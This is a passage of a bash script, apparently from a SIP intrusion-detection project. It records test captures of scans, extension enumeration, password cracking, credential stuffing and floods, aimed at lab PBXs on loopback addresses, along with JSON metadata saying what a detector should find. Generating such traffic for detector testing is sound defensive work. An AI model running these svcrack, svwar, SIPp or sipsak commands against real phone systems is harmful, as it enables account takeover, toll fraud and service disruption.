#!/usr/bin/env bash
# Record the lab's captures: real attack tools and real SIP user agents
# against the lab PBXs (test/lab/pbx.sh), recorded with tcpdump on lo.
#
#   test/lab/make-captures.sh              all captures
#   test/lab/make-captures.sh NAME...      only these (names as in --list)
#   test/lab/make-captures.sh --list
#   test/lab/make-captures.sh --calls        only the call-level captures (call-*)
#
# Writes test/fixtures/captures/NAME.pcap, then expected.json and INDEX.md
# (test/lab/bin/summarize.py: tshark counts + what each capture must give).
# Needs root (tcpdump on lo). Sends only to 127.0.0.0/8; every tool run is
# bounded by a count (-m, -e, wordlist length) and by `timeout`; the EXIT
# trap stops tcpdump, background user agents and every PBX it started.
set -euo pipefail

here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
root="$(cd "$here/../.." && pwd)"
out="${CAPTURE_DIR:-$root/test/fixtures/captures}"
# shellcheck source=lib.sh
. "$here/lib.sh"

ALL_CAPTURES=(
	svmap-scan
	svwar-register-leaky svwar-invite-leaky svwar-options-leaky
	svwar-register-hardened svwar-invite-hardened svwar-options-hardened
	svwar-register-3cx svwar-invite-3cx svwar-options-3cx
	svcrack-leaky svcrack-3cx svcrack-hardened-blocked
	sipp-flood-register-leaky sipp-flood-register-hardened sipp-flood-invite-leaky
	sipsak-flood-options-3cx
	sipsak-bruteforce-leaky sipp-bruteforce-tcp-hardened
	sipp-credential-stuffing-3cx sipp-credential-stuffing-leaky
	sipp-distributed-bruteforce-3cx
	svcrack-low-and-slow-leaky
	sipp-digest-replay-leaky sipp-digest-replay-refused-leaky sipp-digest-replay-same-address-leaky
	sipp-toll-fraud-leaky sipp-toll-fraud-unseen-pbx-leaky
	benign-phones-register-3cx benign-phones-register-tcp-leaky
	benign-call-udp-leaky benign-call-tcp-3cx benign-trunk-call-hardened
	benign-nat-office-storm-3cx benign-stale-credentials-leaky
	benign-stale-nonce-leaky benign-weak-password-phone-leaky benign-options-keepalive-hardened
	benign-options-keepalive-tcp-leaky benign-tls-register-leaky
	benign-register-retransmit-leaky benign-outbound-call-leaky
	benign-shared-nonce-leaky benign-counter-nonce-registrar
)
# Call-level captures (calls, in-dialog requests, registrations moving, toll
# fraud through the trunk): `--calls` makes only these.
CALL_CAPTURES=(
	call-benign-hold-resume-3cx call-benign-transfer-3cx call-benign-two-devices-leaky
	call-benign-phone-moves-3cx call-benign-outbound-day-leaky call-benign-night-national-leaky
	call-benign-trunk-reanchor-3cx
	call-hijack-bye-3cx call-hijack-refer-3cx call-hijack-reinvite-3cx call-media-redirect-3cx
	call-hijack-hold-3cx
	call-registration-takeover-3cx call-registration-takeover-leaky call-registration-takeover-same-ua-3cx
	call-fraud-international-burst-leaky call-fraud-premium-burst-3cx call-fraud-prefix-probing-leaky
	call-fraud-sequential-leaky call-fraud-night-leaky
)
ALL_CAPTURES+=("${CALL_CAPTURES[@]}")

if [ "${1:-}" = "--list" ]; then printf '%s\n' "${ALL_CAPTURES[@]}"; exit 0; fi
if [ "${1:-}" = "--calls" ]; then selected=("${CALL_CAPTURES[@]}")
elif [ $# -gt 0 ]; then selected=("$@"); else selected=("${ALL_CAPTURES[@]}"); fi
for n in "${selected[@]}"; do
	printf '%s\n' "${ALL_CAPTURES[@]}" | grep -qx -- "$n" || { echo "unknown capture '$n' (see --list)" >&2; exit 2; }
done

lab_need kamailio kamailio
lab_need sipp sip-tester
lab_need sipsak sipsak
lab_need tcpdump tcpdump
lab_need tshark tshark
lab_need svmap sipvicious
lab_need svwar sipvicious
lab_need svcrack sipvicious
lab_need openssl openssl
lab_need timeout coreutils
lab_need setsid util-linux
[ -x /usr/bin/python3 ] || { echo "missing /usr/bin/python3: apt-get install python3" >&2; exit 3; }
[ -f /usr/lib/x86_64-linux-gnu/kamailio/modules/tls.so ] || \
	echo "note: kamailio-tls-modules not installed: benign-tls-register-leaky will be skipped" >&2
[ "$(id -u)" = 0 ] || { echo "make-captures.sh needs root (tcpdump on lo)" >&2; exit 3; }

# Lab addresses (all loopback). PBX per profile; phones 127.0.1.x; single
# attackers 127.0.2.x; the trunk 127.0.3.1; the distributed attackers and the
# rewritten low-and-slow sources in other 127.x networks.
LEAKY=127.0.0.10
HARDENED=127.0.0.11
TCX=127.0.0.12
TRUNK=127.0.3.1
# Not a Kamailio: a SIPp registrar standing in for a PBX with counter nonces.
WEAKREG=127.0.0.13
declare -A AUTHID=([100]=Qm7Ta2vX [101]=xK3p9qL2 [102]=Lp4Wn8Rz [103]=Zt6Yc1Hb [104]=Jd2Fs9Ue
	[105]=Nw5Ba3Xc [106]=Py8Gk4Md [107]=Rb1Vh7Qs [108]=Ea9Cj6Tw [109]=Hu3Ko2Ly)
declare -A PASSWORD=([100]='Vx9!rT2mKp' [101]='1234' [102]='Gq7#Lm2xWe' [103]='103' [104]='Rk4+Tz8qNo'
	[105]='Hs3@Vb6yPl' [106]='Ue1-Wc9rZa' [107]='Oi5^Xd2tMn' [108]='Bf8&Ng3sLq' [109]='Cy6*Pj4vDs')
declare -A UA=([101]='Yealink SIP-T46S 66.86.0.15' [102]='Snom D785 10.1.73.16'
	[103]='Grandstream GXP2170 1.0.11.23' [104]='PolycomVVX-VVX_411-UA/6.4.3.5423'
	[105]='Fanvil X6U 2.12.1' [106]='Cisco/SPA504G-7.6.2' [108]='Yealink SIP-T54W 96.86.0.100')
SIPP="$here/sipp"
WORDS="$here/wordlists/small.txt"

export LAB_RUN="${LAB_RUN:-/tmp/sipwarden-lab}"
work="$LAB_RUN/work"
rm -rf "$work"
mkdir -p "$work/meta" "$work/raw" "$work/run" "$out"

started_pbx=()
LAB_TCPDUMP_PID=""
bg_pids=()

cleanup() {
	set +e
	local p
	for p in "${bg_pids[@]}"; do kill -TERM "$p" 2>/dev/null; done
	if [ -n "$LAB_TCPDUMP_PID" ]; then kill -INT "$LAB_TCPDUMP_PID" 2>/dev/null; wait "$LAB_TCPDUMP_PID" 2>/dev/null; fi
	for p in "${started_pbx[@]}"; do "$here/pbx.sh" down $p >/dev/null 2>&1; done
}
trap cleanup EXIT
trap 'exit 130' INT TERM

pbx_up() { # PROFILE ADDR
	"$here/pbx.sh" up "$1" "$2" >/dev/null
	started_pbx+=("$1 $2")
}

pbx_down_all() {
	local p
	for p in "${started_pbx[@]}"; do "$here/pbx.sh" down $p >/dev/null; done
	started_pbx=()
}

# cap_start NAME FILTER: tcpdump on lo into the work dir (lab_tcpdump_start).
cap_start() {
	cap="$1"
	: >"$work/meta/$cap.cmds"
	: >"$work/meta/$cap.cmds.rc"
	lab_tcpdump_start "$work/raw/$cap.pcap" "$work/raw/$cap.tcpdump.log" "$2"
	echo "== $cap"
}

# cap_stop [--raw]: stop tcpdump; copy the capture to the fixtures unless a
# later step (a rewrite) writes the fixture itself.
cap_stop() {
	lab_tcpdump_stop "$cap" "$work/raw/$cap.tcpdump.log"
	if [ "${1:-}" != "--raw" ]; then cp "$work/raw/$cap.pcap" "$out/$cap.pcap"; fi
}

# run CMD...: run and log a traffic command of the current capture (exact
# command line into NAME.cmds, its output into NAME.out). A tool's failure
# status is recorded, not fatal: attacks are supposed to fail.
run() {
	printf '%q ' "$@" | sed 's/ $//' >>"$work/meta/$cap.cmds"
	echo >>"$work/meta/$cap.cmds"
	local rc=0
	(cd "$work/run" && "$@") >>"$work/meta/$cap.out" 2>&1 </dev/null || rc=$?
	if [ "$rc" != 0 ]; then echo "   (exit $rc) $1 ${2:-}" | tee -a "$work/meta/$cap.cmds.rc" >/dev/null; fi
	return 0
}

# must_run CMD...: like run, but the traffic is meant to succeed (benign).
must_run() {
	local before; before="$(wc -l <"$work/meta/$cap.cmds.rc")"
	run "$@"
	local after; after="$(wc -l <"$work/meta/$cap.cmds.rc")"
	if [ "$after" != "$before" ]; then
		echo "WARNING: $cap: a benign user agent failed: $*" >&2
		tail -n 20 "$work/meta/$cap.out" >&2
	fi
}

# bg CMD...: run in the background (a called phone waiting for INVITE).
bg() {
	printf '%q ' "$@" | sed 's/ $//' >>"$work/meta/$cap.cmds"
	echo "   # (in the background)" >>"$work/meta/$cap.cmds"
	(cd "$work/run" && exec "$@") >>"$work/meta/$cap.out" 2>&1 </dev/null &
	bg_pids+=("$!")
}

wait_bg() {
	local p
	for p in "${bg_pids[@]}"; do wait "$p" || echo "WARNING: $cap: background agent $p exited $?" >&2; done
	bg_pids=()
}

# meta: the capture's expectations (JSON object read from stdin).
meta() { cat >"$work/meta/$cap.json"; }

csv() { # FILE LINE...: a SIPp injection file
	local f="$work/run/$1"; shift
	{ echo SEQUENTIAL; printf '%s\n' "$@"; } >"$f"
	echo "$f"
}

auth() { echo "[authentication username=$1 password=$2]"; }

sv() { # ADDR TOOL ARGS...: a SIPVicious tool sending from ADDR
	local addr="$1"; shift
	run env SV_BIND="$addr" timeout 60 "$here/bin/sv-bind" "$@"
}

########## attacks ##########

cap_svmap-scan() {
	pbx_up leaky $LEAKY; pbx_up hardened $HARDENED; pbx_up 3cx-like $TCX
	cap_start svmap-scan "host 127.0.2.1"
	run timeout 60 svmap -b 127.0.2.1 -p 5060 127.0.0.8-127.0.0.15
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky+hardened+3cx-like", "pbx": ["$LEAKY", "$HARDENED", "$TCX"], "transport": "udp",
	 "tool": "svmap (SIPVicious 0.3.3)", "attackers": ["127.0.2.1"],
	 "attacks": ["scan.tool-fingerprint"], "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "dos.flood", "recon.extension-enumeration"],
	 "identities": [], "weakPassword": null,
	 "description": "svmap sweeps 127.0.0.8-15 with OPTIONS (User-Agent friendly-scanner, From \"sipvicious\"). The three lab PBXs answer 200 OK (leaky with Server: kamailio (5.6.3 ...), 3cx-like with User-Agent: 3CXPhoneSystem 18.0.9.20, hardened with no version); the five other addresses answer ICMP port unreachable. exposure.vulnerable-version may be raised for a banner only when the bundled, sourced version list names that version (3CX 18.0.9.20 and Kamailio 5.6.3 are not in it)."}
	EOF
}

svwar_capture() { # NAME PROFILE PBX ATTACKER METHOD FORCE
	local name="$1" profile="$2" pbx="$3" attacker="$4" method="$5" force="$6"
	pbx_up "$profile" "$pbx"
	cap_start "$name" "host $pbx"
	local -a extra=()
	[ "$force" = yes ] && extra+=(--force)
	sv "$attacker" svwar -m "$method" -e100-199 -x "$attacker" "${extra[@]}" "$pbx"
	cap_stop; pbx_down_all
}

svwar_meta() { # PROFILE PBX ATTACKER METHOD ORACLE(yes/no/stops) NOTE
	# "stops": svwar gave up after its probe and one extension (see NOTE).
	local oracle="" must_not='"auth.bruteforce", "auth.credential-stuffing"' findings="[]" may='"dos.flood"'
	local attacks='"recon.extension-enumeration", "scan.tool-fingerprint"'
	[ "$5" = yes ] && oracle=', "exposure.enumeration-oracle"'
	[ "$5" != yes ] && must_not="$must_not"', "exposure.enumeration-oracle"'
	[ "$5" = stops ] && attacks='"scan.tool-fingerprint"' && may="$may"', "recon.extension-enumeration"'
	[ "$1" = 3cx-like ] && may="$may"', "exposure.vulnerable-version"'
	[ "$1" = leaky ] && may="$may"', "exposure.vulnerable-version"'
	meta <<-EOF
	{"profile": "$1", "pbx": "$2", "transport": "udp", "tool": "svwar (SIPVicious 0.3.3)",
	 "attackers": ["$3"], "attacks": [$attacks$oracle],
	 "findings": $findings, "mayFind": [$may], "mustNotFind": [$must_not],
	 "identities": [], "extensionsProbed": "100-199 plus one random 32-bit number first (svwar's check of the answer for an unknown user)",
	 "weakPassword": null,
	 "description": "svwar -m $4 walks extensions 100-199 from $3. $6"}
	EOF
}

cap_svwar-register-leaky() {
	svwar_capture svwar-register-leaky leaky $LEAKY 127.0.2.11 REGISTER no
	svwar_meta leaky $LEAKY 127.0.2.11 REGISTER yes "Unknown extensions get 404 Not Found, 100-109 and 200-239 get 401 with a challenge: the oracle; svwar lists the existing ones."
}
cap_svwar-invite-leaky() {
	svwar_capture svwar-invite-leaky leaky $LEAKY 127.0.2.12 INVITE no
	svwar_meta leaky $LEAKY 127.0.2.12 INVITE yes "Unknown extensions get 404, existing ones 407 Proxy Authentication Required; svwar ACKs every final answer."
}
cap_svwar-options-leaky() {
	svwar_capture svwar-options-leaky leaky $LEAKY 127.0.2.13 OPTIONS no
	svwar_meta leaky $LEAKY 127.0.2.13 OPTIONS yes "Unknown extensions get 404, existing ones 200 OK (svwar reports them as 'noauth')."
}
cap_svwar-register-hardened() {
	svwar_capture svwar-register-hardened hardened $HARDENED 127.0.2.14 REGISTER yes
	svwar_meta hardened $HARDENED 127.0.2.14 REGISTER stops "Every user, known or not, gets the same 401. svwar 0.3.3 gives up here: its first request (a random 32-bit user) gets the same 401 as a real extension, so with --force it marks the answer for an unknown user as that 401, takes the first real extension's identical answer as 'unknown response' and stops. The capture holds the probe and extension 100 only; two users are no enumeration (recon.extension-enumeration tolerated, not required)."
}
cap_svwar-invite-hardened() {
	svwar_capture svwar-invite-hardened hardened $HARDENED 127.0.2.15 INVITE yes
	svwar_meta hardened $HARDENED 127.0.2.15 INVITE stops "Every user gets the same 407. svwar 0.3.3 gives up here: its first request (a random 32-bit user) gets the same 407 as a real extension, so with --force it marks the answer for an unknown user as that 407, takes the first real extension's identical answer as 'unknown response' and stops. The capture holds the probe and extension 100 only; two users are no enumeration (recon.extension-enumeration tolerated, not required)."
}
cap_svwar-options-hardened() {
	svwar_capture svwar-options-hardened hardened $HARDENED 127.0.2.16 OPTIONS no
	svwar_meta hardened $HARDENED 127.0.2.16 OPTIONS no "Every OPTIONS gets 200 OK whatever the user (svwar finds nothing); pike blocks the source after about 30 requests."
}
cap_svwar-register-3cx() {
	svwar_capture svwar-register-3cx 3cx-like $TCX 127.0.2.17 REGISTER yes
	svwar_meta 3cx-like $TCX 127.0.2.17 REGISTER stops "Every user gets the same 407 realm 3CXPhoneSystem. svwar 0.3.3 gives up here: its first request (a random 32-bit user) gets the same 407 as a real extension, so with --force it marks the answer for an unknown user as that 407, takes the first real extension's identical answer as 'unknown response' and stops. The capture holds the probe and extension 100 only; two users are no enumeration (recon.extension-enumeration tolerated, not required)."
}
cap_svwar-invite-3cx() {
	svwar_capture svwar-invite-3cx 3cx-like $TCX 127.0.2.18 INVITE yes
	svwar_meta 3cx-like $TCX 127.0.2.18 INVITE stops "Every user gets the same 407. svwar 0.3.3 gives up here: its first request (a random 32-bit user) gets the same 407 as a real extension, so with --force it marks the answer for an unknown user as that 407, takes the first real extension's identical answer as 'unknown response' and stops. The capture holds the probe and extension 100 only; two users are no enumeration (recon.extension-enumeration tolerated, not required)."
}
cap_svwar-options-3cx() {
	svwar_capture svwar-options-3cx 3cx-like $TCX 127.0.2.19 OPTIONS no
	svwar_meta 3cx-like $TCX 127.0.2.19 OPTIONS no "Every OPTIONS gets 200 OK with User-Agent 3CXPhoneSystem 18.0.9.20; svwar finds nothing."
}

cap_svcrack-leaky() {
	pbx_up leaky $LEAKY
	cap_start svcrack-leaky "host $LEAKY"
	sv 127.0.2.20 svcrack -u 101 -d "$WORDS" -x 127.0.2.20 "$LEAKY"
	cap_stop; pbx_down_all
	local found; found="$(grep -Eo '^\| *101 *\| *[^ |]+' "$work/meta/svcrack-leaky.out" | awk -F'|' '{gsub(/ /,"",$3); print $3}' | head -n1)"
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "svcrack (SIPVicious 0.3.3)",
	 "attackers": ["127.0.2.20"],
	 "attacks": ["auth.bruteforce", "scan.tool-fingerprint", "auth.success-after-failures", "auth.weak-password"],
	 "findings": [], "mayFind": ["exposure.vulnerable-version", "dos.flood"], "mustNotFind": ["auth.credential-stuffing", "auth.distributed-bruteforce", "auth.stale-credentials"],
	 "identities": ["101"], "weakPassword": {"identity": "101", "extension": "101", "password": "1234"},
	 "toolReported": "$found",
	 "description": "svcrack guesses extension 101's password from test/lab/wordlists/small.txt in order (REGISTER, 401 qop=auth challenge, REGISTER with the guess, 403 Forbidden), 12 wrong guesses then '1234' is accepted (200 OK) and svcrack stops. svcrack's From tag is the hex of '101:<guess>\\\\x01<random>': the guess is readable in every request."}
	EOF
}

cap_svcrack-3cx() {
	pbx_up 3cx-like $TCX
	cap_start svcrack-3cx "host $TCX"
	sv 127.0.2.21 svcrack -u "${AUTHID[101]}" -e 101 -d "$WORDS" -x 127.0.2.21 "$TCX"
	cap_stop; pbx_down_all
	local found; found="$(grep -Eo "^\| *(101|${AUTHID[101]}) *\| *[^ |]+" "$work/meta/svcrack-3cx.out" | awk -F'|' '{gsub(/ /,"",$3); print $3}' | head -n1)"
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "svcrack (SIPVicious 0.3.3)",
	 "attackers": ["127.0.2.21"],
	 "attacks": ["auth.bruteforce", "scan.tool-fingerprint", "auth.success-after-failures", "auth.weak-password"],
	 "findings": [], "mayFind": ["exposure.vulnerable-version", "dos.flood"], "mustNotFind": ["auth.credential-stuffing", "auth.distributed-bruteforce", "auth.stale-credentials"],
	 "identities": ["${AUTHID[101]}"], "weakPassword": {"identity": "${AUTHID[101]}", "extension": "101", "password": "1234"},
	 "toolReported": "$found",
	 "description": "svcrack with a leaked Auth ID: digest user ${AUTHID[101]}, To/From extension 101 (-e 101). REGISTER, 407 realm 3CXPhoneSystem qop=auth, REGISTER with Proxy-Authorization, 403 Forbidden for the 12 wrong guesses, 200 OK for '1234'. The identity is the Auth ID; the site model maps it to extension 101."}
	EOF
}

cap_svcrack-hardened-blocked() {
	pbx_up hardened $HARDENED
	cap_start svcrack-hardened-blocked "host $HARDENED"
	sv 127.0.2.22 svcrack -u 104 -d "$WORDS" -x 127.0.2.22 "$HARDENED"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "hardened", "pbx": "$HARDENED", "transport": "udp", "tool": "svcrack (SIPVicious 0.3.3)",
	 "attackers": ["127.0.2.22"], "attacks": ["auth.bruteforce", "scan.tool-fingerprint"],
	 "findings": [], "mayFind": ["dos.flood"],
	 "mustNotFind": ["auth.success-after-failures", "auth.weak-password", "auth.credential-stuffing", "auth.stale-credentials"],
	 "identities": ["104"], "weakPassword": null,
	 "description": "svcrack against 104 (a strong password) on the hardened PBX: every wrong guess is answered with a fresh 401 challenge (no 403), which svcrack answers with the next guess; after about 30 requests in 2 s pike blocks the source, the later guesses go unanswered and svcrack gives up. Nothing is cracked."}
	EOF
}

cap_sipp-flood-register-leaky() {
	pbx_up leaky $LEAKY
	local f; f="$(csv flood-reg.csv 100 101 102 103 104 105 106 107 108 109)"
	cap_start sipp-flood-register-leaky "host $LEAKY"
	run timeout 30 sipp -sf "$SIPP/flood-register.xml" -inf "$f" -i 127.0.2.23 -p 5060 -r 300 -m 1500 -l 400 -recv_timeout 2000 "$LEAKY:5060"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (flood-register.xml)",
	 "attackers": ["127.0.2.23"], "attacks": ["dos.flood"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "scan.tool-fingerprint"],
	 "mustNotFind": ["auth.bruteforce", "auth.credential-stuffing", "recon.extension-enumeration"],
	 "identities": [], "weakPassword": null,
	 "description": "1500 unauthenticated REGISTERs (users 100-109 in turn) at 300/s from one address and port; the PBX answers every one with a 401 challenge. No credentials are sent, so there is no failed authentication."}
	EOF
}

cap_sipp-flood-register-hardened() {
	pbx_up hardened $HARDENED
	local f; f="$(csv flood-reg.csv 100 101 102 103 104 105 106 107 108 109)"
	cap_start sipp-flood-register-hardened "host $HARDENED"
	run timeout 30 sipp -sf "$SIPP/flood-register.xml" -inf "$f" -i 127.0.2.24 -p 5060 -r 300 -m 900 -l 1000 -recv_timeout 1000 "$HARDENED:5060"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "hardened", "pbx": "$HARDENED", "transport": "udp", "tool": "SIPp 3.6.1 (flood-register.xml)",
	 "attackers": ["127.0.2.24"], "attacks": ["dos.flood"], "findings": [], "mayFind": ["scan.tool-fingerprint"],
	 "mustNotFind": ["auth.bruteforce", "auth.credential-stuffing", "recon.extension-enumeration"],
	 "identities": [], "weakPassword": null,
	 "description": "900 REGISTERs at 300/s; pike blocks the source after about 30 requests in 2 s, so only the first ones are answered (401) and the rest are unanswered: a detector should count them as blocked."}
	EOF
}

cap_sipp-flood-invite-leaky() {
	pbx_up leaky $LEAKY
	local f; f="$(csv flood-inv.csv '100;102' '100;103' '100;105')"
	cap_start sipp-flood-invite-leaky "host $LEAKY"
	run timeout 30 sipp -sf "$SIPP/flood-invite.xml" -inf "$f" -i 127.0.2.26 -p 5060 -r 200 -m 1000 -l 400 -recv_timeout 2000 "$LEAKY:5060"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (flood-invite.xml)",
	 "attackers": ["127.0.2.26"], "attacks": ["dos.flood"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "scan.tool-fingerprint"],
	 "mustNotFind": ["auth.bruteforce", "recon.extension-enumeration", "call.unauthenticated-accepted"],
	 "identities": [], "weakPassword": null,
	 "description": "1000 INVITEs without a body (From 100, to 102/103/105 in turn) at 200/s; each is answered 407 and ACKed. No call is set up."}
	EOF
}

cap_sipsak-flood-options-3cx() {
	pbx_up 3cx-like $TCX
	cap_start sipsak-flood-options-3cx "host $TCX"
	run timeout 30 sipsak -F -e 2000 -s "sip:$TCX" --local-ip 127.0.2.25 -H 127.0.2.25
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "sipsak 0.9.8.1 (flood mode -F)",
	 "attackers": ["127.0.2.25"], "attacks": ["dos.flood"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version"], "mustNotFind": ["auth.bruteforce", "recon.extension-enumeration"],
	 "identities": [], "weakPassword": null,
	 "description": "sipsak floods 2000 OPTIONS as fast as it can (well over 10 000/s) and exits; the PBX's 200 OK answers that arrive after sipsak closed its socket are answered by ICMP port unreachable from the attacker's address."}
	EOF
}

cap_sipsak-bruteforce-leaky() {
	pbx_up leaky $LEAKY
	cap_start sipsak-bruteforce-leaky "host $LEAKY"
	local pw n=0
	while read -r pw; do
		[ "$pw" = "${PASSWORD[102]}" ] && continue
		run timeout 5 sipsak -U -s "sip:102@$LEAKY" -u 102 -a "$pw" --local-ip 127.0.2.30 -H 127.0.2.30 -l 5070
		n=$((n + 1)); [ $n -ge 30 ] && break
	done <"$WORDS"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "sipsak 0.9.8.1 (usrloc mode -U, one run per guess)",
	 "attackers": ["127.0.2.30"], "attacks": ["auth.bruteforce"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "scan.tool-fingerprint"],
	 "mustNotFind": ["auth.success-after-failures", "auth.weak-password", "auth.credential-stuffing", "auth.distributed-bruteforce", "dos.flood"],
	 "identities": ["102"], "weakPassword": null,
	 "description": "30 runs of sipsak -U, one wrong password each (the first 30 words of small.txt), all from 127.0.2.30:5070 against 102: REGISTER, 401, REGISTER with credentials, 403 Forbidden. User-Agent: sipsak 0.9.8.1."}
	EOF
}

cap_sipp-bruteforce-tcp-hardened() {
	pbx_up hardened $HARDENED
	local -a lines=() pw
	while read -r pw; do
		lines+=("104;$(auth 104 "$pw");PolycomVVX-VVX_411-UA/6.4.3.5423")
	done < <(head -n 40 "$WORDS")
	local f; f="$(csv bf-tcp.csv "${lines[@]}")"
	cap_start sipp-bruteforce-tcp-hardened "host $HARDENED"
	run timeout 60 sipp -sf "$SIPP/guess-register.xml" -inf "$f" -t t1 -i 127.0.2.31 -p 5071 -r 4 -m 40 -recv_timeout 4000 "$HARDENED:5060"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "hardened", "pbx": "$HARDENED", "transport": "tcp", "tool": "SIPp 3.6.1 (guess-register.xml, -t t1)",
	 "attackers": ["127.0.2.31"], "attacks": ["auth.bruteforce"], "findings": [], "mayFind": ["scan.tool-fingerprint"],
	 "mustNotFind": ["auth.success-after-failures", "auth.weak-password", "auth.credential-stuffing", "dos.flood"],
	 "identities": ["104"], "weakPassword": null,
	 "description": "40 password guesses for 104 at 4 per second over one TCP connection, with a fake Polycom User-Agent (a phone's User-Agent does not make it a phone). Each guess: REGISTER, 401, REGISTER with credentials, and a fresh 401 (the hardened PBX re-challenges instead of 403). Below the pike threshold, so nothing is blocked."}
	EOF
}

cap_sipp-credential-stuffing-3cx() {
	pbx_up 3cx-like $TCX
	local -a lines=() ids=() u
	for u in $(seq 100 139) admin test operator 1000; do
		ids+=("\"$u\"")
		lines+=("$u;$(auth "$u" "$u");Zoiper rv2.10.20.1")
		lines+=("$u;$(auth "$u" 1234);Zoiper rv2.10.20.1")
	done
	local f; f="$(csv stuff-3cx.csv "${lines[@]}")"
	cap_start sipp-credential-stuffing-3cx "host $TCX"
	run timeout 60 sipp -sf "$SIPP/guess-register.xml" -inf "$f" -i 127.0.2.40 -p 5060 -r 10 -m "${#lines[@]}" -recv_timeout 4000 "$TCX:5060"
	cap_stop; pbx_down_all
	local idlist; idlist="$(IFS=,; echo "${ids[*]}")"
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (guess-register.xml)",
	 "attackers": ["127.0.2.40"], "attacks": ["auth.credential-stuffing"], "findings": [],
	 "mayFind": ["scan.tool-fingerprint", "recon.extension-enumeration", "exposure.vulnerable-version"],
	 "mustNotFind": ["auth.success-after-failures", "auth.weak-password", "exposure.enumeration-oracle", "dos.flood"],
	 "identities": [$idlist], "weakPassword": null,
	 "description": "One address tries 44 identities (100-139, admin, test, operator, 1000), each with the identity itself and '1234' as password, 10 calls/s. The attacker uses the extension as Auth ID, which 3CX does not: every attempt ends 407 then 403 Forbidden, so nothing succeeds (even 101/1234, whose Auth ID is ${AUTHID[101]})."}
	EOF
}

cap_sipp-credential-stuffing-leaky() {
	pbx_up leaky $LEAKY
	local -a lines=() ids=() u
	for u in $(seq 100 119) admin test operator 1000; do
		ids+=("\"$u\"")
		lines+=("$u;$(auth "$u" "$u");Grandstream GXP2170 1.0.11.23")
	done
	local f; f="$(csv stuff-leaky.csv "${lines[@]}")"
	cap_start sipp-credential-stuffing-leaky "host $LEAKY"
	run timeout 60 sipp -sf "$SIPP/guess-register.xml" -inf "$f" -i 127.0.2.41 -p 5060 -r 8 -m "${#lines[@]}" -recv_timeout 4000 "$LEAKY:5060"
	cap_stop; pbx_down_all
	local idlist; idlist="$(IFS=,; echo "${ids[*]}")"
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (guess-register.xml)",
	 "attackers": ["127.0.2.41"],
	 "attacks": ["auth.credential-stuffing", "auth.success-after-failures", "auth.weak-password", "exposure.enumeration-oracle"],
	 "findings": [], "mayFind": ["exposure.vulnerable-version", "scan.tool-fingerprint", "recon.extension-enumeration"],
	 "mustNotFind": ["auth.distributed-bruteforce", "dos.flood"],
	 "identities": [$idlist], "weakPassword": {"identity": "103", "extension": "103", "password": "103"},
	 "description": "One address tries 24 identities with the password equal to the user name, 8 calls/s. Unknown users (110-119, admin, test, operator, 1000) get 404 at once; 100-109 get 401, then 403 for the wrong password, except 103 whose password is '103': 200 OK, and the attacker's Contact is registered for 103."}
	EOF
}

cap_sipp-distributed-bruteforce-3cx() {
	pbx_up 3cx-like $TCX
	cap_start sipp-distributed-bruteforce-3cx "host $TCX"
	local -a srcs=() words
	mapfile -t words <"$WORDS"
	local k addr f i
	for k in $(seq 1 30); do
		addr="127.$((20 + k)).$((k * 7 % 250)).$((k + 10))"
		srcs+=("\"$addr\"")
		local -a lines=()
		for i in 0 1 2; do
			lines+=("105;$(auth "${AUTHID[105]}" "${words[$(((k * 3 + i) % 40))]}");3CXPhone for Windows 16.3.0.292")
		done
		f="$(csv "dist-$k.csv" "${lines[@]}")"
		run timeout 20 sipp -sf "$SIPP/guess-register.xml" -inf "$f" -i "$addr" -p 5060 -r 3 -m 3 -recv_timeout 4000 "$TCX:5060"
	done
	cap_stop; pbx_down_all
	local srclist; srclist="$(IFS=,; echo "${srcs[*]}")"
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (guess-register.xml), 30 instances",
	 "attackers": [$srclist], "attacks": ["auth.distributed-bruteforce"], "findings": [],
	 "mayFind": ["scan.tool-fingerprint", "exposure.vulnerable-version"],
	 "mustNotFind": ["auth.success-after-failures", "auth.weak-password", "auth.credential-stuffing", "dos.flood"],
	 "identities": ["${AUTHID[105]}"], "weakPassword": null,
	 "description": "30 addresses in 30 different /16 networks (127.21.7.11 ... 127.50.210.40), one after the other, each making 3 wrong guesses for Auth ID ${AUTHID[105]} (extension 105) at 3/s: REGISTER, 407, REGISTER with credentials, 403. No single address makes more than 3 attempts."}
	EOF
}

cap_svcrack-low-and-slow-leaky() {
	pbx_up leaky $LEAKY
	# Two runs of 72 words: svcrack writes nc in decimal ("00000100" for its
	# 100th guess), which Kamailio reads as hex 0x100 > 255 and answers with a
	# stale=true challenge instead of checking the password.
	head -n 72 "$here/wordlists/lowslow.txt" >"$work/run/lowslow-1.txt"
	tail -n +73 "$here/wordlists/lowslow.txt" >"$work/run/lowslow-2.txt"
	cap_start svcrack-low-and-slow-leaky "host $LEAKY"
	sv 127.0.2.50 svcrack -u 107 -d "$work/run/lowslow-1.txt" -x 127.0.2.50 "$LEAKY"
	sv 127.0.2.50 svcrack -u 107 -d "$work/run/lowslow-2.txt" -x 127.0.2.50 "$LEAKY"
